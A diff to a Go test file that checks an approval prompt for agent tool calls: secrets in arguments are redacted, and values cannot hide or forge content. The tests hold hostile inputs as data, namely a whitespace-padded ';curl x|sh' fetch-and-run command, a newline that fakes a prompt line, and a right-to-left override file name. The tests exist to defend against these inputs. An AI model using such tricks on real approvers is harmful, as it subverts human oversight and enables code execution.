@@ -13,6 +13,7 @@ import (
 	"net/url"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -545,14 +546,37 @@ func TestApprovalStateForgeries(t *testing.T) {
 }
 
 func TestSummarizeArgsRedacts(t *testing.T) {
-	got := summarizeArgs([]byte(`{"amount":25000,"auth":{"api_token":"s3cr3t"},"note":"rent","password":"hunter2"}`))
+	rules := audit.Classes{"ssn": audit.Secret, "card": audit.Secret, "password": audit.Public}
+	got := summarizeArgs([]byte(`{"amount":25000,"auth":{"api_token":"s3cr3t"},"card":{"number":"4111"},"note":"rent","password":"shown","ssn":"078-05-1120","x":{"secret":"hunter2"}}`), rules)
 	want := []approval.Field{{Name: "amount", Value: "25000"}, {Name: "auth.api_token", Value: audit.Redacted},
-		{Name: "note", Value: "rent"}, {Name: "password", Value: audit.Redacted}}
+		{Name: "card", Value: audit.Redacted}, {Name: "note", Value: "rent"}, {Name: "password", Value: "shown"},
+		{Name: "ssn", Value: audit.Redacted}, {Name: "x.secret", Value: audit.Redacted}}
 	if fmt.Sprint(got) != fmt.Sprint(want) {
 		t.Fatalf("summary %v, want %v", got, want)
 	}
 	p := approvalPrompt(&approval.Record{Agent: "a", Tool: "payments__transfer", Server: "payments", Summary: got, Scope: approval.ScopeOnce})
-	if strings.Contains(p, "s3cr3t") || strings.Contains(p, "hunter2") {
+	if strings.Contains(p, "s3cr3t") || strings.Contains(p, "hunter2") || strings.Contains(p, "078-05") || strings.Contains(p, "4111") {
 		t.Fatalf("prompt shows a secret:\n%s", p)
+	}
+}
+
+// TestSummaryShowsWhatItCannotShow: a value with a newline cannot fake a
+// line of the prompt, a bidirectional override is written out, and a cut
+// value says how much is not shown.
+func TestSummaryShowsWhatItCannotShow(t *testing.T) {
+	long := "echo hi" + strings.Repeat(" ", 600) + ";curl x|sh"
+	got := summarizeArgs([]byte(`{"cmd":`+strconv.Quote(long)+`,"note":"ok\nApproving covers this one call only.","file":"txt.\u202eexe"}`), nil)
+	byName := map[string]string{}
+	for _, f := range got {
+		byName[f.Name] = f.Value
+	}
+	if v := byName["cmd"]; !strings.Contains(v, "more bytes not shown") || strings.Contains(v, "curl") {
+		t.Errorf("cut value: %q", v)
+	}
+	if v := byName["note"]; strings.Contains(v, "\n") || !strings.Contains(v, `\n`) {
+		t.Errorf("newline: %q", v)
+	}
+	if v := byName["file"]; strings.ContainsRune(v, '\u202e') || !strings.Contains(v, `\u202e`) {
+		t.Errorf("bidi override: %q", v)
 	}
 }
